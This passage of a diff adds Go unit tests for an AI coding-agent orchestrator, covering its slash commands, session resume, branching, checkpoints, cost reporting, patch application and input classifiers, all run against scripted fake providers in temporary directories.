+	}
+	if !shouldAutoVerifyEditedPaths([]string{"docs/USAGE.md", "internal/orchestrator/orchestrator.go"}) {
+		t.Fatalf("expected true when at least one non-doc path is edited")
+	}
+}
+
+func TestAffectedPathsFromToolCallWrite(t *testing.T) {
+	args := mustJSON(map[string]any{
+		"path":    "internal/tools/read.go",
+		"content": "test",
+	})
+	got := affectedPathsFromToolCall("write", json.RawMessage(args))
+	if len(got) != 1 || got[0] != "internal/tools/read.go" {
+		t.Fatalf("affectedPathsFromToolCall(write) = %q, want %q", got, "internal/tools/read.go")
+	}
+}
+
+func TestAffectedPathsFromToolCallEdit(t *testing.T) {
+	args := mustJSON(map[string]any{
+		"path":       "internal/tools/read.go",
+		"old_string": "a",
+		"new_string": "b",
+	})
+	got := affectedPathsFromToolCall("edit", json.RawMessage(args))
+	if len(got) != 1 || got[0] != "internal/tools/read.go" {
+		t.Fatalf("affectedPathsFromToolCall(edit) = %q, want %q", got, "internal/tools/read.go")
+	}
+}
+
+func TestAffectedPathsFromToolCallPatchMarkdown(t *testing.T) {
+	patch := `--- a/README.md
++++ b/README.md
+@@ -1,3 +1,4 @@
+ line1
+ line2
+ line3
+`
+	args := mustJSON(map[string]any{
+		"patch": patch,
+	})
+	got := affectedPathsFromToolCall("patch", json.RawMessage(args))
+	if len(got) != 1 || got[0] != "README.md" {
+		t.Fatalf("affectedPathsFromToolCall(patch) = %q, want %q", got, "README.md")
+	}
+	if shouldAutoVerifyEditedPaths(got) {
+		t.Fatalf("expected docs-only patch edits to skip auto-verify")
+	}
+}
+
+func TestPatchToolCallReportsEveryTargetToOnFileWritten(t *testing.T) {
+	root := t.TempDir()
+	if err := os.WriteFile(filepath.Join(root, "keep.go"), []byte("package demo\n\nfunc Old() {}\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(root, "gone.go"), []byte("package demo\n\nfunc Gone() {}\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	ws, err := security.NewWorkspace(root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	patch := "--- a/keep.go\n+++ b/keep.go\n@@ -1,3 +1,3 @@\n package demo\n \n-func Old() {}\n+func New() {}\n" +
+		"--- a/gone.go\n+++ /dev/null\n@@ -1,3 +0,0 @@\n-package demo\n-\n-func Gone() {}\n"
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{{ID: "call_patch", Type: "function", Function: chat.ToolCallFunction{
+				Name: "patch", Arguments: mustJSON(map[string]any{"patch": patch}),
+			}}}},
+			{Content: "done"},
+		},
+	}
+	var written []string
+	orch := New(prov, tools.NewRegistry(tools.NewPatchTool(ws)), Options{
+		WorkspaceRoot: root,
+		OnFileWritten: func(path string) { written = append(written, path) },
+	})
+
+	if _, err := orch.RunTurn(context.Background(), "rename and delete", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(root, "gone.go")); !os.IsNotExist(err) {
+		t.Fatalf("gone.go should be deleted by the patch, stat err = %v", err)
+	}
+	if strings.Join(written, ",") != "keep.go,gone.go" {
+		t.Fatalf("OnFileWritten paths = %v, want both patch targets including the deletion", written)
+	}
+}
+
+func TestParseSlashCommand(t *testing.T) {
+	tests := []struct {
+		input    string
+		wantCmd  string
+		wantArgs string
+		wantOk   bool
+	}{
+		{input: "/help", wantCmd: "help", wantArgs: "", wantOk: true},
+		{input: "  /model qwen  ", wantCmd: "model", wantArgs: "qwen", wantOk: true},
+		{input: "normal", wantCmd: "", wantArgs: "", wantOk: false},
+		{input: "/", wantCmd: "", wantArgs: "", wantOk: true},
+	}
+	for _, tc := range tests {
+		cmd, args, ok := parseSlashCommand(tc.input)
+		if cmd != tc.wantCmd || args != tc.wantArgs || ok != tc.wantOk {
+			t.Fatalf("parseSlashCommand(%q) = (%q, %q, %v), want (%q, %q, %v)", tc.input, cmd, args, ok, tc.wantCmd, tc.wantArgs, tc.wantOk)
+		}
+	}
+}
+
+func TestRunInputSlashCommand(t *testing.T) {
+	registry := tools.NewRegistry()
+	orch := New(nil, registry, Options{})
+
+	got, err := orch.RunInput(context.Background(), "/help", nil)
+	if err != nil {
+		t.Fatalf("RunInput /help failed: %v", err)
+	}
+	if !strings.Contains(got, "Commands:") || !strings.Contains(got, "\n  /help\n") || !strings.Contains(got, "\n  /resume [session-id]\n") {
+		t.Fatalf("unexpected /help output: %q", got)
+	}
+
+	got2, err := orch.RunInput(context.Background(), "/unknown", nil)
+	if err != nil {
+		t.Fatalf("RunInput /unknown failed: %v", err)
+	}
+	if !strings.Contains(got2, "Unknown") && !strings.Contains(got2, "unknown") {
+		t.Fatalf("unexpected /unknown output: %q", got2)
+	}
+}
+
+func TestRunInputPwdAndLsSlashCommands(t *testing.T) {
+	root := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(root, "internal"), 0o755); err != nil {
+		t.Fatalf("mkdir: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(root, "go.mod"), []byte("module demo\n"), 0o644); err != nil {
+		t.Fatalf("write go.mod: %v", err)
+	}
+	ws, err := security.NewWorkspace(root)
+	if err != nil {
+		t.Fatalf("new workspace: %v", err)
+	}
+	prov := &scriptedProvider{model: "demo-model"}
+	orch := New(prov, tools.NewRegistry(tools.NewListTool(ws)), Options{WorkspaceRoot: ws.Root()})
+
+	got, err := orch.RunInput(context.Background(), "/pwd", nil)
+	if err != nil {
+		t.Fatalf("RunInput /pwd failed: %v", err)
+	}
+	if !strings.Contains(got, ws.Root()) {
+		t.Fatalf("expected workspace root in /pwd output: %q", got)
+	}
+
+	got, err = orch.RunInput(context.Background(), "/ls", nil)
+	if err != nil {
+		t.Fatalf("RunInput /ls failed: %v", err)
+	}
+	for _, needle := range []string{"internal/", "go.mod"} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in /ls output: %q", needle, got)
+		}
+	}
+
+	got, err = orch.RunInput(context.Background(), "/ls ../", nil)
+	if err != nil {
+		t.Fatalf("RunInput /ls outside failed: %v", err)
+	}
+	if !strings.Contains(got, "Failed to list") {
+		t.Fatalf("expected workspace boundary error, got: %q", got)
+	}
+	if prov.callCount != 0 {
+		t.Fatalf("slash commands should not call the provider, got %d calls", prov.callCount)
+	}
+}
+
+func TestModelSwitchAppliesConfiguredContextLimit(t *testing.T) {
+	prov := &scriptedProvider{model: "small-model"}
+	orch := New(prov, tools.NewRegistry(), Options{
+		ContextTokenLimit: 24000,
+		Models:            []string{"small-model", "large-model", "plain-model"},
+		ModelLimits:       map[string]int{"small-model": 8000, "large-model": 128000},
+	})
+	if got := orch.CurrentContextStats().ContextLimit; got != 8000 {
+		t.Fatalf("initial context limit = %d, want 8000 for small-model", got)
+	}
+
+	got, err := orch.RunInput(context.Background(), "/model large-model", nil)
+	if err != nil {
+		t.Fatalf("RunInput /model failed: %v", err)
+	}
+	if !strings.Contains(got, "Model set to large-model") {
+		t.Fatalf("unexpected /model output: %q", got)
+	}
+	if got := orch.CurrentContextStats().ContextLimit; got != 128000 {
+		t.Fatalf("context limit after switch = %d, want 128000", got)
+	}
+
+	if err := orch.SetModel("plain-model"); err != nil {
+		t.Fatalf("SetModel: %v", err)
+	}
+	if got := orch.CurrentContextStats().ContextLimit; got != 24000 {
+		t.Fatalf("unlisted model should use runtime limit, got %d", got)
+	}
+
+	list, err := orch.RunInput(context.Background(), "/models", nil)
+	if err != nil {
+		t.Fatalf("RunInput /models failed: %v", err)
+	}
+	for _, needle := range []string{"  small-model (context 8000 tokens)", "  large-model (context 128000 tokens)", "* plain-model (context 24000 tokens)"} {
+		if !strings.Contains(list, needle) {
+			t.Fatalf("expected %q in /models output: %q", needle, list)
+		}
+	}
+}
+
+// listingProvider 在 scriptedProvider 之上返回固定的模型列表或错误。
+// listingProvider returns a fixed model list or error on top of scriptedProvider.
+type listingProvider struct {
+	scriptedProvider
+	models  []provider.ModelInfo
+	listErr error
+}
+
+func (p *listingProvider) ListModels(context.Context) ([]provider.ModelInfo, error) {
+	return p.models, p.listErr
+}
+
+func TestRunInputModelInfoJoinsProviderAndConfiguredModels(t *testing.T) {
+	prov := &listingProvider{
+		scriptedProvider: scriptedProvider{model: "large-model"},
+		models: []provider.ModelInfo{
+			{ID: "small-model", OwnedBy: "acme"},
+			{ID: "large-model", OwnedBy: "acme-labs"},
+		},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{
+		ContextTokenLimit: 24000,
+		Models:            []string{"large-model", "retired-model"},
+		ModelLimits:       map[string]int{"large-model": 128000},
+	})
+
+	got, err := orch.RunInput(context.Background(), "/model-info", nil)
+	if err != nil {
+		t.Fatalf("RunInput /model-info failed: %v", err)
+	}
+	want := strings.Join([]string{
+		"Models from scripted (2 listed):",
+		"* large-model (owner acme-labs, context 128000 tokens, configured)",
+		"  small-model (owner acme)",
+		"  retired-model (configured, not listed by provider)",
+	}, "\n")
+	if got != want {
+		t.Fatalf("unexpected /model-info output:\n%s\nwant:\n%s", got, want)
+	}
+
+	prov.listErr = errors.New("model listing not supported")
+	got, err = orch.RunInput(context.Background(), "/model-info", nil)
+	if err != nil {
+		t.Fatalf("RunInput /model-info failed: %v", err)
+	}
+	for _, needle := range []string{"could not list models (model listing not supported)", "* large-model (context 128000 tokens, configured)", "  retired-model (configured)"} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in fallback output: %q", needle, got)
+		}
+	}
+}
+
+func TestRunInputCostUsesProviderUsageAndPricing(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{Content: "first", Usage: provider.Usage{PromptTokens: 1500, CompletionTokens: 500}},
+			{Content: "second", Usage: provider.Usage{PromptTokens: 2500, CompletionTokens: 1500}},
+		},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{
+		MaxSteps: 8,
+		Pricing:  config.PricingConfig{InputPer1K: 0.01, OutputPer1K: 0.03},
+	})
+	for _, input := range []string{"explain the repo", "and the tests"} {
+		if _, err := orch.RunTurn(context.Background(), input, nil); err != nil {
+			t.Fatalf("RunTurn failed: %v", err)
+		}
+	}
+
+	// 4000 prompt * $0.01/1K + 2000 completion * $0.03/1K = $0.10
+	if got := estimateCost(4000, 2000, config.PricingConfig{InputPer1K: 0.01, OutputPer1K: 0.03}); got < 0.0999 || got > 0.1001 {
+		t.Fatalf("estimateCost=%f, want 0.10", got)
+	}
+	got, err := orch.RunInput(context.Background(), "/cost", nil)
+	if err != nil {
+		t.Fatalf("RunInput /cost failed: %v", err)
+	}
+	for _, needle := range []string{"4000 prompt + 2000 completion = 6000 (2 call(s))", "Estimated cost: $0.1000"} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in /cost output: %q", needle, got)
+		}
+	}
+}
+
+func TestRunInputCostEstimatesWithoutUsageOrPricing(t *testing.T) {
+	prov := &scriptedProvider{
+		model:     "demo-model",
+		responses: []provider.ChatResponse{{Content: "hello there"}},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{MaxSteps: 8})
+	if _, err := orch.RunTurn(context.Background(), "explain the repo", nil); err != nil {
+		t.Fatalf("RunTurn failed: %v", err)
+	}
+	if orch.usage.promptTokens <= 0 || orch.usage.completionTokens <= 0 || orch.usage.estimatedCalls != 1 {
+		t.Fatalf("expected estimated usage, got %+v", orch.usage)
+	}
+	got, err := orch.RunInput(context.Background(), "/cost", nil)
+	if err != nil {
+		t.Fatalf("RunInput /cost failed: %v", err)
+	}
+	if !strings.Contains(got, "1 estimated") || !strings.Contains(got, "Pricing not configured") {
+		t.Fatalf("unexpected /cost output: %q", got)
+	}
+}
+
+func TestRunInputApplyWritesDiffFromLastAssistantMessage(t *testing.T) {
+	root := t.TempDir()
+	if err := os.WriteFile(filepath.Join(root, "greet.txt"), []byte("hello\nworld\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	ws, err := security.NewWorkspace(root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	orch := New(nil, tools.NewRegistry(tools.NewPatchTool(ws)), Options{
+		WorkspaceRoot: root,
+		ActiveAgent: agent.Profile{
+			Name:        "build",
+			ToolEnabled: map[string]bool{"patch": true},
+		},
+	})
+
+	if got, _ := orch.RunInput(context.Background(), "/apply", nil); !strings.Contains(got, "No assistant message") {
+		t.Fatalf("/apply without assistant message=%q", got)
+	}
+	orch.appendMessage(chat.Message{Role: "assistant", Content: "Try this:\n```diff\nnot a diff\n```\n"})
+	if got, _ := orch.RunInput(context.Background(), "/apply", nil); !strings.Contains(got, "not a valid unified diff") {
+		t.Fatalf("/apply with invalid block=%q", got)
+	}
+
+	orch.appendMessage(chat.Message{Role: "assistant", Content: "Suggested change:\n\n```diff\n--- a/greet.txt\n+++ b/greet.txt\n@@ -1,2 +1,2 @@\n hello\n-world\n+there\n```\n"})
+	got, err := orch.RunInput(context.Background(), "/apply", nil)
+	if err != nil {
+		t.Fatalf("RunInput /apply failed: %v", err)
+	}
+	if !strings.Contains(got, "patched 1 file(s)") {
+		t.Fatalf("unexpected /apply output: %q", got)
+	}
+	data, err := os.ReadFile(filepath.Join(root, "greet.txt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(data) != "hello\nthere\n" {
+		t.Fatalf("greet.txt=%q, want patched content", data)
+	}
+	if len(orch.undoStack) != 1 {
+		t.Fatalf("undo entries=%d, want 1", len(orch.undoStack))
+	}
+}
+
+func TestRunInputResumeWithoutArgsListsSessions(t *testing.T) {
+	dbPath := filepath.Join(t.TempDir(), "test.db")
+	store, err := storage.NewSQLiteStore(dbPath)
+	if err != nil {
+		t.Fatalf("new sqlite store: %v", err)
+	}
+	defer store.Close()
+
+	s1 := storage.SessionMeta{ID: "sess_a", Agent: "build", Model: "m1", CWD: "/tmp/a"}
+	s2 := storage.SessionMeta{ID: "sess_b", Agent: "explore", Model: "m2", CWD: "/tmp/b"}
+	if err := store.CreateSession(s1); err != nil {
+		t.Fatalf("create session s1: %v", err)
+	}
+	if err := store.CreateSession(s2); err != nil {
+		t.Fatalf("create session s2: %v", err)
+	}
+
+	current := "sess_b"
+	orch := New(nil, tools.NewRegistry(), Options{
+		Store:        store,
+		SessionIDRef: &current,
+	})
+
+	got, err := orch.RunInput(context.Background(), "/resume", nil)
+	if err != nil {
+		t.Fatalf("RunInput /resume failed: %v", err)
+	}
+	for _, needle := range []string{"Recent sessions (timezone: Asia/Shanghai, UTC+08:00):", "sess_a", "sess_b", "Use /resume <session-id> (or a unique prefix) to restore."} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in output: %q", needle, got)
+		}
+	}
+	if !strings.Contains(got, "UTC+08:00") {
+		t.Fatalf("expected beijing timezone marker in output: %q", got)
+	}
+	if !strings.Contains(got, "* sess_b") {
+		t.Fatalf("expected current session marker for sess_b: %q", got)
+	}
+}
+
+func TestRunTurnInjectsSessionNotesAtTurnStart(t *testing.T) {
+	store, err := storage.NewSQLiteStore(filepath.Join(t.TempDir(), "test.db"))
+	if err != nil {
+		t.Fatalf("new sqlite store: %v", err)
+	}
+	defer store.Close()
+	if err := store.CreateSession(storage.SessionMeta{ID: "sess_notes", Agent: "build", Model: "m1"}); err != nil {
+		t.Fatalf("create session: %v", err)
+	}
+
+	current := "sess_notes"
+	sessionID := func() string { return current }
+	prov := &scriptedProvider{
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{{ID: "call_note", Type: "function", Function: chat.ToolCallFunction{
+				Name:      "note_write",
+				Arguments: `{"content":"API base path is /v2; keep tests under internal/api"}`,
+			}}}},
+			{Content: "noted"},
+			{Content: "done"},
+		},
+	}
+	orch := New(prov, tools.NewRegistry(tools.NewNoteReadTool(store, sessionID), tools.NewNoteWriteTool(store, sessionID)), Options{
+		MaxSteps:     3,
+		Store:        store,
+		SessionIDRef: &current,
+		ActiveAgent: agent.Profile{
+			Name:        "build",
+			ToolEnabled: map[string]bool{"note_read": true, "note_write": true},
+		},
+	})
+
+	if _, err := orch.RunTurn(context.Background(), "remember the API layout", nil); err != nil {
+		t.Fatalf("first RunTurn: %v", err)
+	}
+	for _, msg := range prov.requests[0].Messages {
+		if strings.HasPrefix(msg.Content, "[SESSION_NOTES]") {
+			t.Fatalf("no notes expected before the first write, got %q", msg.Content)
+		}
+	}
+
+	if _, err := orch.RunTurn(context.Background(), "continue", nil); err != nil {
+		t.Fatalf("second RunTurn: %v", err)
+	}
+	last := prov.requests[len(prov.requests)-1]
+	want := "[SESSION_NOTES]\nAPI base path is /v2; keep tests under internal/api"
+	found := false
+	for _, msg := range last.Messages {
+		if msg.Role == "system" && msg.Content == want {
+			found = true
+		}
+	}
+	if !found {
+		t.Fatalf("expected session notes system message in next turn, got %+v", last.Messages)
+	}
+	exposed := false
+	for _, def := range last.Tools {
+		if def.Function.Name == "note_write" {
+			exposed = true
+		}
+	}
+	if !exposed {
+		t.Fatal("expected note tools to stay exposed once the session has notes")
+	}
+}
+
+func TestRunInputCompareFlagsFilesEditedDifferently(t *testing.T) {
+	store, err := storage.NewSQLiteStore(filepath.Join(t.TempDir(), "test.db"))
+	if err != nil {
+		t.Fatalf("new sqlite store: %v", err)
+	}
+	defer store.Close()
+
+	editCall := func(id, path, oldS, newS string) chat.ToolCall {
+		args, _ := json.Marshal(map[string]string{"path": path, "old_string": oldS, "new_string": newS})
+		return chat.ToolCall{ID: id, Type: "function", Function: chat.ToolCallFunction{Name: "edit", Arguments: string(args)}}
+	}
+	writeCall := chat.ToolCall{ID: "w1", Type: "function", Function: chat.ToolCallFunction{
+		Name: "write", Arguments: `{"path":"main.go","content":"package main\n\nconst retries = 1\n"}`,
+	}}
+	shared := []chat.Message{
+		{Role: "user", Content: "tune retries"},
+		{Role: "assistant", ToolCalls: []chat.ToolCall{writeCall}},
+		{Role: "tool", ToolCallID: "w1", Content: `{"ok":true}`},
+	}
+	sessionA := append(append([]chat.Message(nil), shared...),
+		chat.Message{Role: "assistant", ToolCalls: []chat.ToolCall{editCall("e1", "main.go", "retries = 1", "retries = 3")}},
+		chat.Message{Role: "tool", ToolCallID: "e1", Content: `{"ok":true}`},
+		chat.Message{Role: "assistant", ToolCalls: []chat.ToolCall{editCall("e2", "README.md", "x", "y")}},
+		chat.Message{Role: "tool", ToolCallID: "e2", Content: `{"ok":false,"error":"old_string not found"}`},
+	)
+	sessionB := append(append([]chat.Message(nil), shared...),
+		chat.Message{Role: "assistant", ToolCalls: []chat.ToolCall{editCall("e1", "main.go", "retries = 1", "retries = 5")}},
+		chat.Message{Role: "tool", ToolCallID: "e1", Content: `{"ok":true}`},
+		chat.Message{Role: "assistant", ToolCalls: []chat.ToolCall{editCall("e3", "docs/notes.md", "a", "b")}},
+		chat.Message{Role: "tool", ToolCallID: "e3", Content: `{"ok":true}`},
+	)
+	for id, msgs := range map[string][]chat.Message{"sess_a": sessionA, "sess_b": sessionB} {
+		if err := store.CreateSession(storage.SessionMeta{ID: id, Agent: "build", Model: "m1"}); err != nil {
+			t.Fatalf("create session %s: %v", id, err)
+		}
+		if err := store.SaveMessages(id, msgs); err != nil {
+			t.Fatalf("save messages %s: %v", id, err)
+		}
+	}
+	if got := storage.EditedPaths(sessionA); strings.Join(got, ",") != "main.go" {
+		t.Fatalf("EditedPaths(sessionA)=%v, want [main.go] (failed edits skipped)", got)
+	}
+
+	current := "sess_a"
+	orch := New(nil, tools.NewRegistry(), Options{Store: store, SessionIDRef: &current})
+	got, err := orch.RunInput(context.Background(), "/compare sess_a sess_b", nil)
+	if err != nil {
+		t.Fatalf("RunInput /compare: %v", err)
+	}
+	for _, needle := range []string{
+		"Compared A=sess_a and B=sess_b: 2 file(s) changed, 1 differ.",
+		"  differs  main.go (+1 -1)",
+		"  only B   docs/notes.md",
+		"-const retries = 3",
+		"+const retries = 5",
+	} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in output:\n%s", needle, got)
+		}
+	}
+	if strings.Contains(got, "README.md") {
+		t.Fatalf("failed edit should not count as a change:\n%s", got)
+	}
+}
+
+func TestRunInputBranchForksSession(t *testing.T) {
+	root := t.TempDir()
+	store, err := storage.NewSQLiteStore(filepath.Join(root, "test.db"))
+	if err != nil {
+		t.Fatalf("new sqlite store: %v", err)
+	}
+	defer store.Close()
+	if err := store.CreateSession(storage.SessionMeta{ID: "sess_orig", Agent: "build", Title: "refactor"}); err != nil {
+		t.Fatalf("create session: %v", err)
+	}
+	original := []chat.Message{{Role: "user", Content: "first question"}, {Role: "assistant", Content: "first answer"}}
+	if err := store.SaveMessages("sess_orig", original); err != nil {
+		t.Fatalf("save messages: %v", err)
+	}
+
+	current := "sess_orig"
+	prov := &scriptedProvider{model: "demo-model", responses: []provider.ChatResponse{{Content: "branch answer"}}}
+	orch := New(prov, tools.NewRegistry(), Options{
+		Store:         store,
+		SessionIDRef:  &current,
+		WorkspaceRoot: root,
+	})
+	orch.LoadMessages(original)
+
+	got, err := orch.RunInput(context.Background(), "/branch", nil)
+	if err != nil {
+		t.Fatalf("RunInput /branch failed: %v", err)
+	}
+	if current == "sess_orig" || current == "" {
+		t.Fatalf("current session=%q, want a new branch session", current)
+	}
+	if !strings.Contains(got, "sess_orig -> "+current) {
+		t.Fatalf("unexpected /branch output: %q", got)
+	}
+	branched, err := store.LoadMessages(current)
+	if err != nil {
+		t.Fatalf("load branch messages: %v", err)
+	}
+	if len(branched) != 2 || branched[0].Content != "first question" || branched[1].Content != "first answer" {
+		t.Fatalf("branch messages=%+v, want copy of original", branched)
+	}
+	if meta, err := store.LoadSession(current); err != nil || meta.Title != "refactor (branch)" {
+		t.Fatalf("branch meta=%+v err=%v", meta, err)
+	}
+
+	if _, err := orch.RunInput(context.Background(), "try another approach", nil); err != nil {
+		t.Fatalf("RunInput in branch failed: %v", err)
+	}
+	if branched, _ = store.LoadMessages(current); len(branched) != 4 {
+		t.Fatalf("branch should grow to 4 messages, got %d", len(branched))
+	}
+	orig, err := store.LoadMessages("sess_orig")
+	if err != nil {
+		t.Fatalf("load original messages: %v", err)
+	}
+	if len(orig) != 2 {
+		t.Fatalf("original session modified: %+v", orig)
+	}
+}
+
+func TestRunInputCheckpointRestoreTruncatesConversation(t *testing.T) {
+	root := t.TempDir()
+	store, err := storage.NewSQLiteStore(filepath.Join(root, "test.db"))
+	if err != nil {
+		t.Fatalf("new sqlite store: %v", err)
+	}
+	defer store.Close()
+	if err := store.CreateSession(storage.SessionMeta{ID: "sess_cp", Agent: "build"}); err != nil {
+		t.Fatalf("create session: %v", err)
+	}
+
+	current := "sess_cp"
+	prov := &scriptedProvider{model: "demo-model", responses: []provider.ChatResponse{{Content: "first answer"}, {Content: "second answer"}}}
+	orch := New(prov, tools.NewRegistry(), Options{
+		Store:         store,
+		SessionIDRef:  &current,
+		WorkspaceRoot: root,
+	})
+
+	if _, err := orch.RunInput(context.Background(), "first question", nil); err != nil {
+		t.Fatalf("first turn failed: %v", err)
+	}
+	snapshot := orch.Messages()
+	got, err := orch.RunInput(context.Background(), "/checkpoint before-refactor", nil)
+	if err != nil || !strings.Contains(got, `Saved checkpoint "before-refactor"`) {
+		t.Fatalf("/checkpoint output=%q err=%v", got, err)
+	}
+
+	if _, err := orch.RunInput(context.Background(), "second question", nil); err != nil {
+		t.Fatalf("second turn failed: %v", err)
+	}
+	if len(orch.Messages()) <= len(snapshot) {
+		t.Fatalf("second turn should grow the conversation, got %d messages", len(orch.Messages()))
+	}
+
+	got, err = orch.RunInput(context.Background(), "/restore before-refactor", nil)
+	if err != nil || !strings.Contains(got, `Restored checkpoint "before-refactor"`) {
+		t.Fatalf("/restore output=%q err=%v", got, err)
+	}
+	restored := orch.Messages()
+	if len(restored) != len(snapshot) {
+		t.Fatalf("restored %d messages, want %d", len(restored), len(snapshot))
+	}
+	for i := range snapshot {
+		if restored[i].Role != snapshot[i].Role || restored[i].Content != snapshot[i].Content {
+			t.Fatalf("message %d=%+v, want %+v", i, restored[i], snapshot[i])
+		}
+	}
+	stored, err := store.LoadMessages("sess_cp")
+	if err != nil {
+		t.Fatalf("load messages: %v", err)
+	}
+	if len(stored) != len(snapshot) {
+		t.Fatalf("store has %d messages after restore, want %d", len(stored), len(snapshot))
+	}
+
+	if got, _ := orch.RunInput(context.Background(), "/restore missing", nil); !strings.Contains(got, `Checkpoint "missing" not found.`) || !strings.Contains(got, "before-refactor") {
+		t.Fatalf("unexpected output for unknown checkpoint: %q", got)
+	}
+}
+
+func TestRunInputResumeBySessionIDPrefix(t *testing.T) {
+	dbPath := filepath.Join(t.TempDir(), "test.db")
+	store, err := storage.NewSQLiteStore(dbPath)
+	if err != nil {
+		t.Fatalf("new sqlite store: %v", err)
+	}
+	defer store.Close()
+
+	for _, meta := range []storage.SessionMeta{
+		{ID: "sess_alpha1", Agent: "build"},
+		{ID: "sess_alpha2", Agent: "build"},
+		{ID: "sess_beta", Agent: "build"},
+	} {
+		if err := store.CreateSession(meta); err != nil {
+			t.Fatalf("create session %s: %v", meta.ID, err)
+		}
+	}
+	if err := store.SaveMessages("sess_beta", []chat.Message{{Role: "user", Content: "hello beta"}}); err != nil {
+		t.Fatalf("save messages: %v", err)
+	}
+
+	current := "sess_alpha1"
+	orch := New(nil, tools.NewRegistry(), Options{
+		Store:        store,
+		SessionIDRef: &current,
+	})
+
+	got, err := orch.RunInput(context.Background(), "/resume sess_b", nil)
+	if err != nil {
+		t.Fatalf("RunInput /resume prefix failed: %v", err)
+	}
+	if !strings.Contains(got, "Resumed session sess_beta (1 messages)") {
+		t.Fatalf("expected unique prefix to resume sess_beta, got: %q", got)
+	}
+	if current != "sess_beta" {
+		t.Fatalf("current session = %q, want sess_beta", current)
+	}
+
+	got, err = orch.RunInput(context.Background(), "/resume sess_al", nil)
+	if err != nil {
+		t.Fatalf("RunInput /resume ambiguous failed: %v", err)
+	}
+	for _, needle := range []string{"Ambiguous session prefix", "sess_alpha1", "sess_alpha2"} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in output: %q", needle, got)
+		}
+	}
+	if current != "sess_beta" {
+		t.Fatalf("ambiguous prefix should not switch session, got %q", current)
+	}
+
+	got, err = orch.RunInput(context.Background(), "/resume sess_alpha1", nil)
+	if err != nil {
+		t.Fatalf("RunInput /resume exact failed: %v", err)
+	}
+	if !strings.Contains(got, "Resumed session sess_alpha1") {
+		t.Fatalf("expected exact id to resume, got: %q", got)
+	}
+}
+
+func TestIsComplexTask(t *testing.T) {
+	tests := []struct {
+		input string
+		want  bool
+	}{
+		{"", false},
+		{"hi", false},
+		{strings.Repeat("a", 80), true},
+		{"step by step refactor", true},
+		{"然后优化；修复", true},
+		{"one two three four five six seven eight nine ten eleven twelve thirteen fourteen", true},
+	}
+	for _, tc := range tests {
+		got := isComplexTask(tc.input)
+		if got != tc.want {
+			t.Fatalf("isComplexTask(%q) = %v, want %v", tc.input, got, tc.want)
+		}
+	}
+}
+
+func TestIsChattyGreeting(t *testing.T) {
+	tests := []struct {
+		input string
+		want  bool
+	}{
+		// 闲聊/问候
+		{"你好", true},
+		{"您好", true},
+		{"hello", true},
+		{"hi", true},
+		{"hey", true},
+		{"在吗", true},
+		{"早上好", true},
+		{"good morning", true},
+		{"thanks", true},
+		{"thank you", true},
+		{"bye", true},
+		{"再见", true},
+		{"怎么样", true},
+		{"ok", true},
+		{"how are you", true},
+
+		// 不是闲聊 - 有任务指令
+		{"你好，帮我修改代码", false},
 		{"hello, add a feature", false},
 		{"查看一下文件", false},
 		{"run test", false},
@@ -649,884 +2342,2665 @@ func TestIsChattyGreeting(t *testing.T) {
 		{"实现功能", false},
 		{"create file.txt", false},
 
-		// 不是闲聊 - 太长
-		{"你好，这是一个很长的问候语句，超过了长度限制所以不是闲聊", false},
-		{"hello this is a very long greeting message that exceeds the limit", false},
+		// 不是闲聊 - 太长
+		{"你好，这是一个很长的问候语句，超过了长度限制所以不是闲聊", false},
+		{"hello this is a very long greeting message that exceeds the limit", false},
+
+		// 不是闲聊 - 包含冒号（通常是任务描述）
+		{"你好: 请帮我做这件事", false},
+		{"task: hello", false},
+
+		// 不是闲聊 - 空字符串
+		{"", false},
+
+		// 边界情况 - 短但无明确问候词
+		{"what", false},
+		{"why", false},
+	}
+	for _, tc := range tests {
+		got := isChattyGreeting(tc.input)
+		if got != tc.want {
+			t.Fatalf("isChattyGreeting(%q) = %v, want %v", tc.input, got, tc.want)
+		}
+	}
+}
+
+func TestIsDocLikePath(t *testing.T) {
+	tests := []struct {
+		path string
+		want bool
+	}{
+		{"docs/foo", true},
+		{"x/docs/y", true},
+		{"README.md", true},
+		{"file.txt", true},
+		{"internal/foo.go", false},
+		{"", false},
+	}
+	for _, tc := range tests {
+		got := isDocLikePath(tc.path)
+		if got != tc.want {
+			t.Fatalf("isDocLikePath(%q) = %v, want %v", tc.path, got, tc.want)
+		}
+	}
+}
+
+func TestSummarizeForLog(t *testing.T) {
+	if summarizeForLog("") != "-" {
+		t.Fatalf("empty: %q", summarizeForLog(""))
+	}
+	if summarizeForLog("  short  ") != "short" {
+		t.Fatalf("short: %q", summarizeForLog("  short  "))
+	}
+	long := strings.Repeat("x", 300)
+	out := summarizeForLog(long)
+	if !strings.HasSuffix(out, "...(truncated)") {
+		t.Fatalf("long truncate: %q", out)
+	}
+}
+
+func TestParseJSONObjectAndGetters(t *testing.T) {
+	m := parseJSONObject(`{"a":"v","b":2,"c":[1,2]}`)
+	if m == nil {
+		t.Fatal("parseJSONObject returned nil")
+	}
+	if getString(m, "a", "") != "v" {
+		t.Fatalf("getString: %q", getString(m, "a", ""))
+	}
+	if getString(m, "missing", "def") != "def" {
+		t.Fatalf("getString missing: %q", getString(m, "missing", "def"))
+	}
+	if getInt(m, "b", 0) != 2 {
